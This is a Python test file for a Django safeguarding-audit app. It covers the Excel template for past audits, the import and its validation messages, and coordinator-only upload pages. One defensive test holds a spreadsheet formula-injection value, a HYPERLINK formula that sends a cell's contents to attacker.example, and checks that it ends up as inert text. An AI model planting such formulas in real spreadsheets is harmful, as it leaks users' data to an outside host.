"""Past audits from the Excel template: the template, the import, and its pages."""

import datetime
import io
import os
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from docx import Document
from openpyxl import load_workbook

from maca.audits.models import Audit, AuditStatus, Case, Request, RequestStatus
from maca.bundles.spreadsheet import (
    HistoryFileError,
    history_bundle,
    history_import,
    history_read,
    history_template,
)
from maca.history.models import ChangeRecord
from maca.meetings.models import AuditTheme, Ratification
from maca.partnerships.models import LibraryTheme
from maca.reports.summary import report_summary
from maca.returns.models import Return
from tests import factories as f
from tests.support.bundles import ROWS, TITLE, filled

pytestmark = pytest.mark.django_db

HEADER = [
    "Area",
    "Children's Social Care grade",
    "Police grade",
    "Health Provider grade",
    "Ratified grade",
    "Not scored reason",
    "Themes",
]


def counts() -> dict[str, int]:
    models = [Audit, Case, Request, Return, Ratification, AuditTheme, LibraryTheme, ChangeRecord]
    return {model.__name__: model.objects.count() for model in models}


def problems_of(partnership, data, by=None) -> list[str]:
    with pytest.raises(HistoryFileError) as raised:
        history_import(partnership=partnership, data=data, by=by)
    assert raised.value.field == "file"
    return raised.value.problems


@pytest.fixture
def cast(partnership, areas, agencies, coordinator):
    return partnership


# --- The template -------------------------------------------------------------------------


def test_the_template_has_the_partnerships_agencies_and_areas(cast):
    workbook = load_workbook(io.BytesIO(history_template(cast)))

    assert {"Instructions", "Audit", "Cases"} <= set(workbook.sheetnames)
    cases = workbook["Cases"]
    assert [cell.value for cell in cases[1]] == HEADER
    assert cases.freeze_panes == "A2"
    assert [workbook["Audit"][f"A{row}"].value for row in range(2, 7)] == [
        "Title",
        "Theme",
        "Why it was chosen",
        "Link",
        "Meeting date",
    ]
    lists = {v.formula1: str(v.sqref) for v in cases.data_validations.dataValidation}
    assert len(lists) == 2  # the areas on column A, the grades on the grade columns
    choices = workbook["Lists"]
    assert [c.value for c in choices["A"][1:] if c.value] == ["East", "North", "Central"]
    assert [c.value for c in choices["B"][1:] if c.value] == [
        "Outstanding",
        "Good",
        "Requires improvement",
        "Inadequate",
        "Not scored",
    ]
    instructions = " ".join(str(c.value) for c in workbook["Instructions"]["A"] if c.value)
    assert "East, North, Central" in instructions and "semicolons" in instructions


HYPERLINK = '=HYPERLINK("https://attacker.example/?"&A3,"Open the guidance")'


def test_a_name_that_reads_as_a_formula_is_text_in_the_template(cast):
    # An area or agency named like a formula would have been live in Excel.
    f.AreaFactory(partnership=cast, name=HYPERLINK, position=9)
    f.AgencyFactory(partnership=cast, name="=1+1", position=9)

    data = history_template(cast)

    workbook = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert HYPERLINK in [cell.value for cell in workbook["Lists"]["A"]]
    assert workbook["Cases"]["E1"].value == "=1+1 grade"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(name) for name in sheets)


# --- Loading a filled template ------------------------------------------------------------


def test_a_filled_template_loads_as_a_closed_audit(cast, coordinator):
    library = LibraryTheme.objects.create(partnership=cast, title="Information sharing")

    audit = history_import(partnership=cast, data=filled(cast), by=coordinator)

    assert (audit.title, audit.status) == (TITLE, AuditStatus.CLOSED)
    assert audit.meeting_date == datetime.date(2016, 11, 20)
    assert audit.rationale_link == "https://example.org/plan"
    cases = list(audit.cases.order_by("pk"))
    assert [case.reference for case in cases] == ["H-01", "H-02", "H-03", "H-04", "H-05", "H-06"]
    assert all(case.locked_at for case in cases)
    assert {e.area.name: e.cases for e in audit.sample_plan.all()} == {
        "East": 2,
        "North": 2,
        "Central": 2,
    }
    ratified = {r.case.reference: (r.grade, r.proposed_grade, r.reason) for r in
                Ratification.objects.filter(case__audit=audit)}  # fmt: skip
    assert ratified["H-01"] == ("requires_improvement", "requires_improvement", "")
    # Proposed from the agencies' grades, as for any bundle: Police's good (CSC did not score).
    assert ratified["H-05"] == ("not_scored", "good", "Insufficient information to grade")
    returns = Return.objects.filter(request__audit=audit)
    assert returns.count() == 12
    assert all(r.request.status == RequestStatus.SUBMITTED for r in returns)
    police = {
        r.request.case.reference: r.grade for r in returns if r.request.agency.name == "Police"
    }
    assert police == {"H-01": "requires_improvement", "H-02": "good", "H-03": "inadequate",
                      "H-05": "good"}  # fmt: skip
    not_scored = returns.get(grade="not_scored")
    assert not_scored.grade_reason == "Not scored (from the partnership's records)"
    themes = {t.title: t for t in audit.themes.all()}
    assert set(themes) == {"Information sharing", "Engagement"}
    assert themes["Information sharing"].library_theme == library
    assert sorted(c.reference for c in themes["Information sharing"].cases.all()) == [
        "H-01",
        "H-03",
        "H-05",
    ]
    assert themes["Engagement"].library_theme.title == "Engagement"  # created in the library
    summary = report_summary(audit)
    assert summary["grades"] == {
        "outstanding": 1,
        "good": 1,
        "requires_improvement": 2,
        "inadequate": 1,
        "not_scored": 1,
    }
    assert summary["cases_by_area"] == {"East": 2, "North": 2, "Central": 2}
    changes = ChangeRecord.objects.filter(audit_id=audit.pk)
    assert changes.exists() and all(c.user == coordinator and c.via == "web" for c in changes)


def test_the_proposed_grade_is_the_agencies_not_the_meetings_as_from_a_bundle(cast):
    """One write path for past audits (issue 20): the spreadsheet used to store the ratified
    grade as the proposed one, where a bundle proposes from the agencies' grades."""
    rows = [["East", "Good", "Good", None, "Inadequate", None, None]]
    bundle = history_bundle(cast, history_read(partnership=cast, data=filled(cast, rows)))
    assert bundle["cases"][0]["ratification"] == {"grade": "inadequate", "reason": ""}
    assert [r["grade"] for r in bundle["cases"][0]["returns"]] == ["good", "good"]

    audit = history_import(partnership=cast, data=filled(cast, rows), by=None)

    ratification = Ratification.objects.get(case__audit=audit)
    assert (ratification.grade, ratification.proposed_grade) == ("inadequate", "good")


def test_a_bad_grade_is_reported_by_row_and_column_and_nothing_is_written(cast):
    data = filled(cast, cases={"C4": "Gud"})
    before = counts()

    problems = problems_of(cast, data)

    assert len(problems) == 1
    assert problems[0].startswith("Row 4, column C (Police grade): Gud is not a grade")
    assert counts() == before


def test_every_problem_is_listed_at_once(cast):
    rows = [*ROWS[:2], [None] * 7, *ROWS[2:]]  # an empty row in the middle is skipped
    data = filled(
        cast,
        rows,
        audit={"B2": None},
        cases={
            "H1": "Youth Service grade",
            "A2": "South",
            "E3": None,
            "F7": None,  # row 5 of ROWS, now row 7: not scored with no reason
        },
    )
    before = counts()

    problems = problems_of(cast, data)

    assert problems == [
        "Audit sheet, cell B2 (Title): enter the audit's title",
        "Row 1, column H (Youth Service grade): no agency of the partnership is called Youth "
        "Service; its agencies are Children's Social Care, Police, Health Provider",
        "Row 2, column A (Area): South is not an area of the partnership; areas are East, "
        "North, Central",
        "Row 3, column E (Ratified grade): enter the grade the meeting agreed: Outstanding, "
        "Good, Requires improvement, Inadequate or Not scored",
        "Row 7, column F (Not scored reason): give the reason the case was not scored",
    ]
    assert counts() == before


def test_the_error_says_nothing_was_loaded_and_lists_every_problem(cast):
    with pytest.raises(HistoryFileError) as raised:
        history_import(partnership=cast, data=filled(cast, cases={"C4": "Gud", "A5": "?"}), by=None)
    assert raised.value.summary == "Nothing was loaded: the file has 2 problems."
    assert "Row 4, column C (Police grade)" in raised.value.message
    assert "Row 5, column A (Area)" in raised.value.message


@pytest.mark.parametrize(
    ("audit", "problem"),
    [
        ({"B6": None}, "Audit sheet, cell B6 (Meeting date): enter the date of the audit meeting"),
        ({"B6": "someday"}, "Audit sheet, cell B6 (Meeting date): enter the date as a date"),
        ({"B6": datetime.datetime(2999, 1, 1)}, "Audit sheet, cell B6 (Meeting date): the date "),
        ({"B5": "not a link"}, "Audit sheet, cell B5 (Link): enter the link as a web address"),
        ({"B3": "  "}, "Audit sheet, cell B3 (Theme): enter the audit's theme"),
    ],
)
def test_the_audit_sheet_is_checked(cast, audit, problem):
    assert problems_of(cast, filled(cast, audit=audit))[0].startswith(problem)


def test_a_meeting_date_typed_as_text_is_read(cast):
    audit = history_import(partnership=cast, data=filled(cast, audit={"B6": "20/11/2016"}), by=None)
    assert audit.meeting_date == datetime.date(2016, 11, 20)


def test_a_reason_for_a_scored_case_is_refused(cast):
    problems = problems_of(cast, filled(cast, cases={"F2": "Some reason"}))
    assert problems == [
        "Row 2, column F (Not scored reason): give a reason only for a case that is not scored"
    ]


def test_more_than_500_cases_are_refused(cast):
    problems = problems_of(cast, filled(cast, [ROWS[1]] * 501))
    assert problems == ["The Cases sheet has more than 500 cases: load at most 500 in one audit"]


def test_a_template_with_no_cases_is_refused(cast):
    assert problems_of(cast, filled(cast, [])) == [
        "The Cases sheet has no cases: add a row for each case under the first"
    ]


def test_a_word_document_or_random_bytes_are_not_a_workbook(cast):
    word = io.BytesIO()
    Document().save(word)
    for data in (word.getvalue(), os.urandom(2048), b""):
        problems = problems_of(cast, data)
        assert problems[0].startswith("The file is not an Excel workbook (.xlsx)")


def test_a_title_already_used_in_the_partnership_is_refused(cast):
    history_import(partnership=cast, data=filled(cast), by=None)
    before = counts()

    problems = problems_of(cast, filled(cast))

    assert problems == [
        f"Audit sheet, cell B2 (Title): the partnership already has an audit called {TITLE}: "
        "give this one another title"
    ]
    assert counts() == before


def test_the_same_title_in_another_partnership_is_fine(cast, other_partnership):
    history_import(partnership=cast, data=filled(cast), by=None)
    for name in ("East", "North", "Central"):
        other_partnership.areas.create(name=name)
    for name in ("Children's Social Care", "Police", "Health Provider"):
        other_partnership.agencies.create(name=name)
    audit = history_import(partnership=other_partnership, data=filled(other_partnership), by=None)
    assert audit.partnership == other_partnership and audit.cases.count() == 6


# --- The pages ----------------------------------------------------------------------------


def upload(data: bytes, name="past-audit.xlsx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


def test_the_coordinator_sees_the_page_with_the_template_link(cast, coordinator, client_for):
    response = client_for(coordinator).get(reverse("audits:history_upload"))
    page = response.content.decode()
    assert response.status_code == 200
    assert reverse("audits:history_template") in page
    assert 'enctype="multipart/form-data"' in page and 'accept=".xlsx' in page


def test_the_coordinator_downloads_the_template(cast, coordinator, client_for):
    response = client_for(coordinator).get(reverse("audits:history_template"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook["Cases"]["C1"].value == "Police grade"


def test_the_home_page_links_to_the_page_for_coordinators_only(
    cast, coordinator, police_auditor, client_for
):
    link = "Load past audits from a spreadsheet"
    assert link in client_for(coordinator).get(reverse("home")).content.decode()
    assert link not in client_for(police_auditor).get(reverse("home")).content.decode()


def test_an_upload_loads_the_audit_and_says_so(cast, coordinator, client_for):
    client = client_for(coordinator)
    response = client.post(reverse("audits:history_upload"), {"file": upload(filled(cast))})

    audit = Audit.objects.get(title=TITLE)
    assert response.status_code == 302
    assert response["Location"] == reverse("audits:detail", args=[audit.pk])
    page = client.get(response["Location"]).content.decode()
    assert f"Loaded audit {TITLE} (6 cases)" in page


def test_a_bad_file_comes_back_with_every_problem(cast, coordinator, client_for):
    data = filled(cast, cases={"C4": "Gud", "A5": "South"})
    response = client_for(coordinator).post(
        reverse("audits:history_upload"), {"file": upload(data)}
    )

    page = response.content.decode().replace("&#x27;", "'")
    assert response.status_code == 400
    assert "There is a problem" in page and "Nothing was loaded: the file has 2 problems." in page
    assert "Row 4, column C (Police grade): Gud is not a grade" in page
    assert "Row 5, column A (Area): South is not an area of the partnership" in page
    assert Audit.objects.count() == 0


def test_a_word_document_comes_back_with_the_reason(cast, coordinator, client_for):
    word = io.BytesIO()
    Document().save(word)
    response = client_for(coordinator).post(
        reverse("audits:history_upload"), {"file": upload(word.getvalue(), "audit.docx")}
    )
    assert response.status_code == 400
    assert "The file is not an Excel workbook (.xlsx)" in response.content.decode()


def test_no_file_is_refused(cast, coordinator, client_for):
    response = client_for(coordinator).post(reverse("audits:history_upload"), {})
    assert response.status_code == 400
    assert "Choose the filled-in template (.xlsx)" in response.content.decode()


@pytest.mark.parametrize("role", ["police_auditor", "agency_lead", "board_member"])
@pytest.mark.parametrize("name", ["audits:history_upload", "audits:history_template"])
def test_only_coordinators_may_open_the_pages(cast, role, name, request, client_for):
    client = client_for(request.getfixturevalue(role))
    assert client.get(reverse(name)).status_code == 403
    if name == "audits:history_upload":
        response = client.post(reverse(name), {"file": upload(filled(cast))})
        assert response.status_code == 403
        assert Audit.objects.count() == 0


def test_the_demo_workbook_loads_into_the_demo_partnership(db):
    """demo/past-audit-neglect-2015.xlsx, filled from the template, loads after load-demo."""
    from django.conf import settings
    from django.core.management import call_command

    from maca.partnerships.models import Partnership

    call_command("load_demo", "--without-feedback-packs", stdout=io.StringIO())
    demo = Partnership.objects.get(name="Demo Safeguarding Children Partnership")
    workbook = settings.BASE_DIR / "demo" / "past-audit-neglect-2015.xlsx"

    audit = history_import(partnership=demo, data=workbook.read_bytes(), by=None)

    assert (audit.status, audit.cases.count()) == (AuditStatus.CLOSED, 3)
    assert report_summary(audit)["grades"]["inadequate"] == 1
